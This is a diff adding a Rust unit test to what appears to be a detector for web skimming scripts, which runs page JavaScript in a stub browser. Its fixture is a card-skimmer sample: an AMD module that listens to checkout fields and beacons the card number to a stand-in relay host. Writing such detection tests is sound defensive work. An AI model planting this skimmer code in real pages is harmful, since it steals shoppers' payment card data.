@@ -529,6 +529,43 @@ mod tests {
         assert!(code.contains("#cc_number"), "{code}");
     }
 
+    /// Three things the stub page does as a browser would: a named AMD module runs, a
+    /// container hears its fields' typing, and `[name="payment[method]"]` is no holder name.
+    #[test]
+    fn modules_bubbling_and_selector_words() {
+        let src = r#"
+            define('Vendor_Sync/js/x', [], function () {
+              document.querySelector('#checkout').addEventListener('change', function (e) {
+                if (e.target.name === 'payment[cc_number]')
+                  navigator.sendBeacon('https://m.x-relay.example/b', e.target.value);
+              });
+            });
+            document.querySelector('#place-order').addEventListener('click', function () {
+              var m = document.querySelector('input[name="payment[method]"]:checked').value;
+              navigator.sendBeacon('https://a.x-analytics.example/e', m);
+            });
+        "#;
+        let obs = observe(src, limits(false), None).unwrap();
+        let code = layer(&obs, false).unwrap();
+        assert!(
+            code.contains("navigator.sendBeacon(\"https://m.x-relay.example/b\", [document.querySelector(\"#cc_number\")"),
+            "{code}"
+        );
+        assert!(
+            code.contains("navigator.sendBeacon(\"https://a.x-analytics.example/e\", [document.querySelector(\"input[name=\\\"payment[method]\\\"]:checked\")"),
+            "{code}"
+        );
+        let method = obs
+            .reads
+            .iter()
+            .find(|(k, _)| k.contains("payment[method]"))
+            .map(|(_, v)| v.as_str());
+        assert!(
+            method.is_some_and(|v| v.starts_with("canary-")),
+            "{method:?}"
+        );
+    }
+
     #[test]
     fn the_stub_page_records_a_flow_and_sends_nothing() {
         let src = r#"
